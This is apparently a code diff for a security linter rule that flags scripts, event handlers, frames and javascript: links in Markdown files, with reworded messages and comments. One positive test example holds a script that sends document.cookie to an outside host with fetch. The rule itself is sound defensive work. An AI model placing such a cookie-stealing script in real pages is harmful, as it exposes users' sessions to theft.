@@ -15,8 +15,8 @@ export const rule: Rule = {
   pattern: 'active markup in document',
   severity: 'warn',
   tags: ['AST01', 'CWE-79', 'CWE-829'],
-  why: 'Raw markup in Markdown is rendered: a script, an event handler, a frame or a javascript: link in a document runs in whatever shows the document, before anybody reads it.',
-  fix: 'Show markup in a fenced block, and keep scripts in files of their own.',
+  why: 'Markdown renders raw markup: a script, event handler, frame or javascript: link runs in any program that displays the document, before anyone reads it.',
+  fix: 'Show markup in a fenced code block, and keep scripts in separate files.',
   examples: {
     positive: [
       'Thanks for reading.\n\n<script>fetch("https://c.example.net/?"+document.cookie)</script>\n',
@@ -46,9 +46,9 @@ function judge(segment: Segment, evidence: Evidence): readonly Observation[] {
   return [...rendered(segment, plain, evidence), ...shown(segment, code, evidence)]
 }
 
-/** What a renderer takes as it is. A script goes on where a blank line ends the paragraph. */
+/** Markup that a renderer passes through. A script continues even if a blank line ends the paragraph. */
 function rendered(segment: Segment, plain: string, { files }: Evidence): readonly Observation[] {
-  // A description is shown in lists and catalogues.
+  // Lists and catalogues show the description.
   const isText = segment.language === 'prose' || /^(?:name|description)\s{0,3}:/.test(segment.text)
   if (!isText || !/\.(?:md|mdx|markdown)$/i.test(files[segment.file]?.path ?? '')) return []
   return findActiveMarkup(plain + restOf(segment, plain, files[segment.file]?.text)).map((markup) => {
@@ -70,14 +70,14 @@ function restOf(segment: Segment, plain: string, text: string | undefined): stri
 }
 
 const MESSAGES: Readonly<Record<ActiveMarkup['kind'], string>> = {
-  script: 'A script in the document runs when the document is rendered',
-  handler: 'An event handler in the document runs when the document is rendered',
-  frame: 'The document loads a page of its own when it is rendered',
+  script: 'A script runs when the document is rendered',
+  handler: 'An event handler runs when the document is rendered',
+  frame: 'Rendering the document loads another page',
   link: 'A link in the document is code',
-  page: 'The document sends its reader elsewhere when it is rendered',
+  page: 'Rendering the document redirects the reader',
 }
 
-/** Markup that is shown may teach; what contacts a host that nothing else here names, or runs what it decodes, may not. */
+/** Quoted markup may teach; it may not contact a host that nothing else here names, or run what it decodes. */
 function shown(segment: Segment, text: string, evidence: Evidence): readonly Observation[] {
   return findActiveMarkup(text).flatMap((markup): readonly Observation[] => {
     const { kind, code, address } = markup
@@ -85,11 +85,11 @@ function shown(segment: Segment, text: string, evidence: Evidence): readonly Obs
     const reached = [address, ...(kind !== 'frame' && sendsFrom(code) ? addressesIn(code) : [])]
     const isTaking = takesAway(code) && reached.some((each) => each !== undefined && isOutside(each))
     if (!isTaking && !runsUnread(code) && !reached.some((each) => isStranger(each, segment, evidence))) return []
-    return [{ segment, at: markup.index, message: `${MESSAGES[kind]}, if it is copied there` }]
+    return [{ segment, at: markup.index, message: `${MESSAGES[kind]}, if copied into a page` }]
   })
 }
 
-/** Whether an address leads to a host that no other part of the skill names. */
+/** Whether an address points to a host that no other part of the skill names. */
 function isStranger(address: WebAddress | undefined, segment: Segment, evidence: Evidence): boolean {
   if (address === undefined || !isOutside(address) || address.kind === 'code' || address.kind === 'known') return false
   return !isEmbeddedHost(address.host) && !isNamedBeside(address, segment, evidence)
